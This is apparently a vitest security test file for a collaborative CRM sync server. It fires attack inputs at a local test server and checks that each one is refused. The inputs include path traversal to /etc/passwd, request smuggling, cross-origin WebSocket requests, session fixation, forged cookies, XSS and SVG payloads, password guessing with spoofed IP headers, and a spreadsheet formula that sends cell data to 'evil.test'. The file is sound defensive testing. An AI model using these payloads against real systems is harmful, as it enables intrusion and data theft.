/** Ways in: sockets and requests of people who have no right to them, with honest people at work meanwhile. */
import { createHash } from 'node:crypto';
import { request } from 'node:http';
import { connect } from 'node:net';
import { unzipSync } from 'fflate';
import * as encoding from 'lib0/encoding';
import Papa from 'papaparse';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { WebSocket } from 'ws';
import * as Y from 'yjs';
import { entities } from '../../shared/entities/registry.ts';
import type { AnyField } from '../../shared/model/field.ts';
import { CLOSE, MESSAGE, SYNC } from '../../shared/sync/protocol.ts';
import { ARENA_ROOM, ARENA_TIMEOUT_MS, type Arena, Attacker, startArena } from '../testing/arena.ts';
import { craftUpdate, entry, value } from '../testing/craft-update.ts';
import { message } from '../testing/memory-sync.ts';
import { until } from '../testing/stock-client.ts';
import { cookieOf, PASSWORD } from '../testing/test-server.ts';

let arena: Arena;
beforeAll(async () => {
  arena = await startArena();
}, ARENA_TIMEOUT_MS);
afterEach(async () => {
  await arena.check();
}, ARENA_TIMEOUT_MS);
afterAll(() => arena.stop());

const port = () => Number(new URL(arena.url).port);

/** Sends bytes over TCP and collects what comes back until the other side is done. */
function overTcp(bytes: string): Promise<string> {
  return new Promise((resolve) => {
    let answer = '';
    const socket = connect(port(), '127.0.0.1', () => socket.end(bytes));
    socket.on('data', (chunk) => {
      answer += chunk.toString('latin1');
    });
    socket.on('error', () => undefined);
    socket.on('close', () => resolve(answer));
    setTimeout(() => socket.destroy(), 3_000).unref();
  });
}

const signIn = (password: string, options: { cookie?: string; headers?: Record<string, string> } = {}) =>
  fetch(`${arena.url}/api/auth/sign-in/email`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      ...(options.cookie === undefined ? {} : { cookie: options.cookie }),
      ...options.headers,
    },
    body: JSON.stringify({ email: 'eve@acme.test', password }),
  });

test.each([
  'team.nothing.1',
  'team.pipeline.999999',
  'other.pipeline.1',
  'TEAM.PIPELINE.1',
  'team.pipeline.01',
  'team.pipeline.1%00',
  '..%2f..%2f..%2fetc%2fpasswd',
  '__proto__',
  'constructor',
  `team.${'x'.repeat(5_000)}.1`,
  "team.pipeline.1' OR '1'='1",
])('there is no room %j, and none is made [S1.4]', async (room) => {
  const socket = new WebSocket(`${arena.url.replace('http', 'ws')}/sync/${room}`, { headers: { cookie: arena.eve } });
  const attacker = new Attacker(socket);
  expect(await attacker.closed).toBe(CLOSE.noSuchRoom);
  const { rooms } = (await (await arena.ask('GET', '/api/rooms', { cookie: arena.eve })).json()) as {
    rooms: { name: string }[];
  };
  expect(rooms.map(({ name }) => name)).not.toContain(room);
});

test.each([
  '/sync/team.pipeline.1/../team.workspace.1',
  '/sync/../sync/team.pipeline.1',
  '/sync/%2e%2e/%2e%2e/rapport.db',
  '/sync//team.pipeline.1',
  '/sync/./team.pipeline.1',
])('the path %j is taken as it is written, and is no room', async (path) => {
  const code = await new Promise<number | null>((resolve) => {
    const upgrade = request({
      host: '127.0.0.1',
      port: port(),
      path,
      agent: false,
      headers: {
        cookie: arena.eve,
        connection: 'Upgrade',
        upgrade: 'websocket',
        'sec-websocket-version': '13',
        'sec-websocket-key': Buffer.alloc(16).toString('base64'),
      },
    });
    upgrade.on('upgrade', (_response, line, head) => {
      const read = (bytes: Buffer) => bytes.length >= 4 && bytes[0] === 0x88 && resolve(bytes.readUInt16BE(2));
      line.on('error', () => undefined);
      line.on('data', read);
      line.on('close', () => resolve(null));
      read(head);
    });
    upgrade.on('response', (response) => {
      response.resume();
      resolve(response.statusCode === 404 ? CLOSE.noSuchRoom : null);
    });
    upgrade.end();
  });
  expect(code).toBe(CLOSE.noSuchRoom);
});

test.each([
  ['GET /sync/../../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n', /^HTTP\/1\.1 (400|404)/],
  ['GET //etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n', /^HTTP\/1\.1 (400|404)/],
  ['GET /..%2f..%2fetc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n', /^HTTP\/1\.1 (400|404)/],
  ['GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n', /^HTTP\/1\.1 400/],
  ['NONSENSE\r\n\r\n', /^HTTP\/1\.1 400/],
  [`GET / HTTP/1.1\r\nHost: x\r\nX: ${'y'.repeat(100_000)}\r\n\r\n`, /^HTTP\/1\.1 431/],
])('the request %j is refused', async (bytes, expected) => {
  const answer = await overTcp(bytes);
  expect(answer).toMatch(expected);
  expect(answer).not.toContain('root:');
});

test.each(['https://evil.test', 'null', 'file://', 'http://127.0.0.1:1', 'http://127.0.0.1.evil.test', 'javascript:1'])(
  'a page of %s gets no socket and no answer, although the browser sends the cookie [S1.3]',
  async (origin) => {
    const status = await new Promise<number | undefined>((resolve) => {
      const upgrade = request(`${arena.url}/sync/${ARENA_ROOM}`, {
        agent: false,
        headers: {
          cookie: arena.anna,
          origin,
          connection: 'Upgrade',
          upgrade: 'websocket',
          'sec-websocket-version': '13',
          'sec-websocket-key': Buffer.alloc(16).toString('base64'),
        },
      });
      upgrade.on('response', (response) => {
        response.resume();
        resolve(response.statusCode);
      });
      upgrade.on('upgrade', (_response, line) => {
        line.destroy();
        resolve(101);
      });
      upgrade.end();
    });
    expect(status).toBe(403);
    const asked = await fetch(`${arena.url}/api/records/deal`, { headers: { cookie: arena.anna, origin } });
    expect(asked.status).toBe(403);
    expect(asked.headers.get('access-control-allow-origin')).toBeNull();
  },
);

test('a session that somebody else chose is not the one a person signs in to (session fixation)', async () => {
  const planted = 'rapport.session_token=chosen-by-somebody.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA%3D';
  expect((await arena.ask('GET', '/api/me', { cookie: planted })).status).toBe(401);
  const first = cookieOf(await signIn(PASSWORD, { cookie: planted }));
  expect(first).toContain('rapport.session_token=');
  expect(first).not.toContain('chosen-by-somebody');
  // Nor does a session that is known to somebody become another person's, or stay the same for the next sign-in.
  const second = cookieOf(await signIn(PASSWORD, { cookie: first }));
  expect(second).not.toBe(first);
  expect((await arena.ask('GET', '/api/me', { cookie: planted })).status).toBe(401);
});

test('a session that is ended in the middle of a connection writes nothing more [S8.2]', async () => {
  const cookie = cookieOf(await signIn(PASSWORD));
  const attacker = await arena.attack(cookie);
  const own = { client: 31_337, clock: 0 };
  attacker.send(stepTwo(craftUpdate([{ ...own, structs: [entry('deal_before', value('{}'))] }])));
  await arena.ask('POST', '/api/auth/sign-out', { cookie });
  for (let clock = 1; clock <= 20 && attacker.socket.readyState === 1; clock++) {
    attacker.send(stepTwo(craftUpdate([{ ...own, clock, structs: [entry(`deal_after${clock}`, value('{}'))] }])));
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
  expect(await attacker.closed).toBe(CLOSE.signedOut);
  await arena.check();
  expect([...arena.honest.records.keys()].filter((key) => key.startsWith('deal_after'))).toEqual([]);
  const back = new Attacker(
    new WebSocket(`${arena.url.replace('http', 'ws')}/sync/${ARENA_ROOM}`, { headers: { cookie } }),
  );
  expect(await back.closed).toBe(CLOSE.signedOut);
});

test.each([
  ['is removed', 'DELETE', { heir: null }, 'is out'],
  ['becomes a viewer', 'PATCH', { role: 'viewer' }, 'may read'],
] as const)(
  'whoever %s in the middle of a connection writes nothing more, on it or on the next [S8.2]',
  async (what, method, body, next) => {
    const name = what.replaceAll(' ', '-');
    const made = await arena.ask('POST', '/api/invitations', { cookie: arena.anna, body: { name, role: 'member' } });
    const token = ((await made.json()) as { url: string }).url.split('/').at(-1);
    const account = { token, name, email: `${name}@acme.test`, password: PASSWORD };
    const cookie = cookieOf(await arena.ask('POST', '/api/invitations/accept', { body: account }));
    const { user } = (await (await arena.ask('GET', '/api/me', { cookie })).json()) as { user: { id: string } };
    const attacker = await arena.attack(cookie);
    const own = { client: what.length + 41_000, clock: 0 };
    attacker.send(stepTwo(craftUpdate([{ ...own, structs: [entry(`deal_while-${name}`, value('{}'))] }])));
    await until(() => arena.honest.records.has(`deal_while-${name}`), 'what was allowed');
    const answer = await arena.ask(method, `/api/members/${user.id}`, { cookie: arena.anna, body });
    expect(answer.status).toBe(200);
    for (let clock = 1; clock <= 20 && attacker.socket.readyState === 1; clock++) {
      attacker.send(stepTwo(craftUpdate([{ ...own, clock, structs: [entry(`deal_later-${name}`, value('{}'))] }])));
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    expect(await attacker.closed).toBeGreaterThanOrEqual(4400);
    const again = await arena.attack(cookie);
    if (next === 'is out') expect(await again.closed).toBe(CLOSE.signedOut);
    else {
      again.hello();
      again.send(stepTwo(craftUpdate([{ ...own, clock: 1, structs: [entry(`deal_later-${name}`, value('{}'))] }])));
      expect(await again.refused()).toEqual(['read-only']);
    }
    await arena.check();
    expect(arena.honest.records.has(`deal_later-${name}`)).toBe(false);
  },
);

const stepTwo = (update: Uint8Array) =>
  message(MESSAGE.sync, (encoder) => {
    encoding.writeVarUint(encoder, SYNC.step2);
    encoding.writeVarUint8Array(encoder, update);
  });

test('cookies that were tampered with are nobody’s', async () => {
  const [name = '', token = ''] = arena.anna.split('=');
  for (const forged of [
    `${name}=${token.slice(0, -4)}AAAA`,
    `${name}=${token.split('.')[0]}`,
    `${name}=${token.split('.')[0]}.`,
    `${name}=`,
    `${name}=${'x'.repeat(6_000)}`,
  ]) {
    expect((await arena.ask('GET', '/api/me', { cookie: forged })).status).toBe(401);
    const attacker = new Attacker(
      new WebSocket(`${arena.url.replace('http', 'ws')}/sync/${ARENA_ROOM}`, { headers: { cookie: forged } }),
    );
    expect(await attacker.closed).toBe(CLOSE.signedOut);
  }
});

test('a viewer changes nothing through the API either', async () => {
  const asks = [
    ['POST', '/api/records/deal', { title: 'x' }],
    ['PATCH', '/api/records/deal/deal_honest0', { title: 'x' }],
    ['DELETE', '/api/records/deal/deal_honest0', undefined],
    ['POST', '/api/invitations', { name: 'x', role: 'admin' }],
  ] as const;
  for (const [method, path, body] of asks) {
    const answer = await arena.ask(method, path, { cookie: arena.vic, ...(body === undefined ? {} : { body }) });
    expect(answer.status).toBeGreaterThanOrEqual(403);
    expect(answer.status).toBeLessThan(500);
  }
});

test('HTML and script in every text field come back as JSON that no browser takes for a page', async () => {
  const evil = `<script>alert(1)</script><img src=x onerror=alert(1)>"'javascript:alert(1)`;
  let fields = 0;
  for (const name of ['contact', 'company', 'deal', 'task', 'noteTemplate'] as const) {
    const texts = Object.entries(entities[name].fields as Readonly<Record<string, AnyField>>).flatMap(
      ([field, { kind, hidden }]) => (!hidden && (kind === 'text' || kind === 'longText') ? [field] : []),
    );
    fields += texts.length;
    const body = Object.fromEntries(texts.map((field) => [field, evil]));
    const made = await arena.ask('POST', `/api/records/${name}`, { cookie: arena.eve, body });
    expect(made.status, `${name}: ${await made.clone().text()}`).toBe(201);
    const { id } = ((await made.json()) as { record: { id: string } }).record;
    const answer = await arena.ask('GET', `/api/records/${name}/${id}`, { cookie: arena.anna });
    expect(answer.headers.get('content-type')).toContain('application/json');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('content-security-policy')).toContain("script-src 'self';");
    const { record } = (await answer.json()) as { record: Record<string, unknown> };
    for (const field of texts) expect(record[field], `${name}.${field}`).toBe(evil);
  }
  expect(fields).toBeGreaterThan(12);
});

test('what a spreadsheet would run as a formula is text in every table of the export, the history among them', async () => {
  const formulas = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(1,1)',
    '\t=1+1',
    '＝1+1',
    "'=1+1",
  ];
  for (const formula of formulas) {
    const bodies = {
      contact: { firstName: formula, lastName: formula, tags: [formula] },
      company: { name: formula },
      deal: { title: formula },
      task: { title: formula },
      activity: { kind: 'note', at: Date.now(), subject: formula },
    };
    for (const [entity, body] of Object.entries(bodies)) {
      const made = await arena.ask('POST', `/api/records/${entity}`, { cookie: arena.eve, body });
      expect(made.status, `${entity}: ${await made.text()}`).toBe(201);
    }
  }
  const answer = await arena.ask('GET', '/api/export', { cookie: arena.anna });
  const tables = Object.entries(unzipSync(new Uint8Array(await answer.arrayBuffer()))).flatMap(([name, bytes]) =>
    name.endsWith('.csv') ? [{ name, ...Papa.parse<string[]>(new TextDecoder().decode(bytes)) }] : [],
  );
  const isRun = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
  for (const { name, data } of tables) expect(data.flat().filter(isRun), name).toEqual([]);
  // The formulas are in there, marked: what is empty would hold no formula either.
  for (const name of ['contacts.csv', 'companies.csv', 'deals.csv', 'tasks.csv', 'activities.csv', 'history.csv']) {
    const cells = tables.find((table) => table.name === name)?.data.flat() ?? [];
    expect(cells.filter((cell) => cell.includes('HYPERLINK')).length, name).toBeGreaterThan(0);
  }
});

test.each([
  ['page.html', 'text/html', '<script>alert(1)</script>'],
  [
    'drawing.svg',
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
  ],
  ['picture.png', 'image/png', '<script>alert(1)</script>'],
])('%s of a member is nothing that runs, whatever its address says it is', async (name, type, text) => {
  const bytes = new TextEncoder().encode(text);
  const hash = createHash('sha256').update(bytes).digest('hex');
  const sent = await fetch(`${arena.url}/api/files/${hash}`, {
    method: 'PUT',
    headers: { cookie: arena.eve, origin: arena.url },
    body: bytes,
  });
  expect(sent.status, await sent.text()).toBeLessThan(300);
  const file = { name, type, hash, bytes: bytes.length, at: Date.now(), about: ['deal_honest0'] };
  const made = await arena.ask('POST', '/api/records/file', { cookie: arena.eve, body: file });
  expect(made.status, await made.text()).toBe(201);
  for (const claimed of [
    type,
    'text/html',
    'image/svg+xml',
    'application/xhtml+xml',
    'text/html\r\nx: y',
    'image/png',
    '',
  ]) {
    const query = new URLSearchParams({ name, type: claimed });
    const { status, headers } = await arena.ask('GET', `/api/files/${hash}?${query}`, { cookie: arena.anna });
    expect(status).toBe(200);
    expect(['application/octet-stream', 'image/png']).toContain(headers.get('content-type'));
    if (headers.get('content-type') !== 'image/png') expect(headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-security-policy')).toContain("default-src 'none'; sandbox;");
  }
});

test('guessing passwords ends after ten tries a minute, whatever address one claims to have', async () => {
  const statuses: number[] = [];
  for (let attempt = 0; attempt < 16; attempt++) {
    const headers = {
      'x-forwarded-for': `10.0.0.${attempt}`,
      'x-real-ip': `10.0.1.${attempt}`,
      'x-rapport-client-ip': `10.0.2.${attempt}`,
      forwarded: `for=10.0.3.${attempt}`,
    };
    statuses.push((await signIn(`guess number ${attempt}`, { headers })).status);
  }
  expect(statuses.slice(-4)).toEqual([429, 429, 429, 429]);
  expect(statuses).not.toContain(200);
});

test('the document of one room tells nothing of another', async () => {
  const attacker = await arena.attack(arena.eve, 'team.workspace.1');
  attacker.send(Uint8Array.of(MESSAGE.sync, SYNC.step1, 1, 0));
  await new Promise((resolve) => setTimeout(resolve, 300));
  const copy = new Y.Doc();
  for (const each of attacker.heard) if (each.type === 'step2') Y.applyUpdate(copy, each.bytes);
  expect([...copy.getMap('records').keys()].filter((key) => key.startsWith('deal_'))).toEqual([]);
});

test('headers that never end, and bodies that are too large, are cut off', async () => {
  const lines = Array.from({ length: 50 }, () => connect(port(), '127.0.0.1'));
  for (const line of lines) {
    line.on('error', () => undefined);
    line.write('POST /api/setup HTTP/1.1\r\nHost: x\r\n');
  }
  await arena.check();
  for (const line of lines) line.destroy();
  const large = await arena.ask('POST', '/api/records/deal', {
    cookie: arena.eve,
    body: { title: 'x'.repeat(3_000_000) },
  });
  expect(large.status).toBe(413);
});
